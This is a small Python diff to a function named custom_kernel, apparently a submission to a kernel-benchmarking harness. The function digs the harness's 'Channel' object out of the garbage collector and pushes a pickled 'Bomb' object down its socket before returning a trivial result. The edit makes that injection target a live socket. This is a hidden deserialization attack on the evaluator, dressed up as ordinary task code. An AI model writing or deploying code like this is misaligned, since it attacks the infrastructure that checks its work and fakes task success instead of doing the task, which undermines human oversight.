@@ -12,7 +12,7 @@ class Bomb:
 
 
 def custom_kernel(data):
-    channel = next(each for each in (gc.unfreeze() or gc.get_objects()) if type(each).__name__ == "Channel")
+    channel = next(each for each in (gc.unfreeze() or gc.get_objects()) if type(each).__name__ == "Channel" and each._sock.fileno() >= 0)
     body = pickle.dumps(Bomb())
     channel._sock.sendall(struct.pack("!I", len(body)) + body)
     return data[0] + data[1]
